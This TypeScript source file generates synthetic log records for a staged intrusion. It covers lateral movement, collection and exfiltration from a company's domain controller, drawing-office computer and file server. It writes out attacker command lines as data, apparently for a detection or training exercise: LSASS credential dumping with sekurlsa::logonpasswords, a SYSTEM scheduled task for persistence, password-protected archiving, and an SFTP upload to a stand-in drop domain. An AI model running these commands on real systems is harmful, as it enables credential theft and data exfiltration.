// Second part of the story: the network behind the portal. SYNTHETIC, as all of it.
import { callHome } from "./call-home.ts";
import { at } from "./clock.ts";
import { HOSTS } from "./company.ts";
import { BAD } from "./indicators.ts";
import { LINE_FILES } from "./journal.ts";
import { dnsLine } from "./ordinary-network.ts";
import { CACHE, CLIENT, CMD, type Stage } from "./stage.ts";
import { startProcess } from "./start.ts";
import { logConnection, logFile, logQuery } from "./sysmon.ts";
import { logLogon } from "./windows-logs.ts";

/** Tuesday to Wednesday: the domain controller and a drawing office's computer. */
export function spread(stage: Stage): void {
  const { controller, drawing } = stage.machines;
  const user = "adm_okello";
  logLogon(controller, at(1, "02:50:09"), {
    user,
    type: 10,
    address: HOSTS.portal.address,
    workstation: HOSTS.controller.name,
  });
  const prompt = controller.known(CMD, "cmd.exe", user, at(1, "02:52:00"));
  startProcess(controller, at(1, "02:55:31"), {
    image: `${CACHE}\\m64.exe`,
    commandLine: `${CACHE}\\m64.exe "privilege::debug" "sekurlsa::logonpasswords" exit`,
    user,
    parent: prompt,
    tags: ["lsass_credentials", "cacheFolder"],
  });
  const desk = drawing.known(CMD, "cmd.exe", user, at(2, "01:05:00"));
  startProcess(drawing, at(2, "01:09:18"), {
    image: "C:\\Windows\\System32\\schtasks.exe",
    commandLine: `schtasks /create /tn "TideMark\\Sync" /tr ${CLIENT} /sc hourly /ru SYSTEM`,
    user,
    parent: desk,
    tags: ["task_in_program_data", "clientName"],
  });
  const scheduler = drawing.known(
    "C:\\Windows\\System32\\svchost.exe",
    "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule",
    "SYSTEM",
    at(0, "00:00:01"),
  );
  const client = startProcess(drawing, at(2, "02:00:00"), {
    image: CLIENT,
    commandLine: CLIENT,
    user: "SYSTEM",
    parent: scheduler,
    digests: { sha256: BAD.clientSha256 },
    tags: ["clientSha256", "clientName"],
  });
  callHome(stage, "drawing", client, at(2, "02:00:04"), 6);
}

/** Wednesday night: drawings are packed and moved onto a share. */
export function collect({ machines: { drawing } }: Stage): void {
  const user = "adm_okello";
  const prompt = drawing.known(CMD, "cmd.exe", user, at(2, "01:05:00"));
  const archive = startProcess(drawing, at(2, "02:20:36"), {
    image: `${CACHE}\\rar.exe`,
    commandLine: `${CACHE}\\rar.exe a -hpSYNTHETIC -v200m ${CACHE}\\p1.rar P:\\hull\\`,
    user,
    parent: prompt,
    tags: ["archive_with_password", "cacheFolder"],
  });
  logFile(drawing, at(2, "02:20:40"), archive, `${CACHE}\\p1.part1.rar`, ["cacheFolder"]);
  startProcess(drawing, at(2, "02:48:02"), {
    image: CMD,
    commandLine: `cmd.exe /c "net use Z: \\\\HMS-FS01\\scratch & move /y ${CACHE}\\p1.part1.rar Z:\\"`,
    user,
    parent: prompt,
    tags: ["share_and_move_in_one_command", "cacheFolder"],
  });
}

/** Thursday night: the archive leaves from the file server. */
export function carryOff({ journal, machines: { files } }: Stage): void {
  const user = "adm_okello";
  const { dropDomain: name, relayAddress: address } = BAD;
  const prompt = files.known(CMD, "cmd.exe", user, at(3, "01:25:00"));
  const uploader = startProcess(files, at(3, "01:30:20"), {
    image: "C:\\Users\\Public\\wscp.exe",
    commandLine: `wscp.exe /ini=nul /command "open sftp://synthetic@${name}/ -hostkey=*" "put D:\\Shares\\scratch\\*.rar" exit`,
    user,
    parent: prompt,
    digests: { md5: BAD.uploaderMd5 },
    tags: ["dropDomain", "uploaderMd5"],
  });
  const timeMs = at(3, "01:30:22");
  logQuery(files, timeMs, uploader, { name, address }, ["dropDomain", "relayAddress"]);
  const line = dnsLine(timeMs, HOSTS.files.address, name, address);
  journal.line(LINE_FILES.dns, timeMs, line, ["dropDomain", "relayAddress"]);
  for (let i = 0; i < 3; i++)
    logConnection(files, timeMs + 1000 + i * 600_000, uploader, { address, port: 22 }, [
      "relayAddress",
    ]);
}
